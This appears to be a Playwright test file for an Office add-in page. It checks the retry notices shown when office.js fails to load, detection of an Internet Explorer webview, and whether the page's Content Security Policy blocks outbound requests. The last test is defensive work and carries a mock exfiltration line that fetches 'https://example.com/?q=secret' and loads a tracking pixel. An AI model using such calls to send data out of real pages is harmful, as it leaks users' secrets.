import { onPage } from './stage/officePage';
import { SAMPLE } from './stage/pane';

const IE = 'Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko';

const notice = (kind: string): string => `#khoi-dong[data-ly-do="${kind}"]`;

test('office.js is stopped by the network: the page says what to do, and tries again', () =>
  onPage(
    { file: SAMPLE, officeJs: 'refused', expects: /ERR_CONNECTION_REFUSED|Office is not defined/u },
    async (office) => {
      const { page } = office;
      const said = page.locator(notice('office'));
      await said.waitFor();
      expect(await said.innerText()).toContain('https://appsforoffice.microsoft.com');
      expect(await office.barriers()).toEqual([]);
      await page.getByRole('button', { name: 'Thử lại' }).click();
      await said.waitFor();
    },
  ));

test('office.js never comes: after a while the same', () =>
  onPage({ file: SAMPLE, officeJs: 'hanging', runningClock: true }, async ({ page }) => {
    await page.locator('#dang-mo').waitFor();
    await page.clock.runFor(16_000);
    await page.locator(notice('office')).waitFor();
  }));

test('a webview of Internet Explorer', () =>
  onPage({ file: SAMPLE, userAgent: IE }, async (office) => {
    await office.page.locator(notice('old')).waitFor();
    expect(await office.barriers()).toEqual([]);
  }));

test('the policy of the page lets nothing out, wherever it is asked to send', () =>
  onPage({ file: SAMPLE, expects: /policy|Content Security Policy/u }, async ({ page, complaints }) => {
    await page.locator('main h1').first().waitFor();
    const sent = await page.evaluate(`fetch('https://example.com/?q=secret').then(() => 'sent', () => 'stopped')`);
    expect(sent).toBe('stopped');
    await page.evaluate(`void (new Image().src = 'https://example.com/pixel')`);
    expect(complaints.join()).toContain('policy: connect-src https://example.com');
    expect(complaints.filter((each) => each.startsWith('request'))).toEqual([]);
  }));
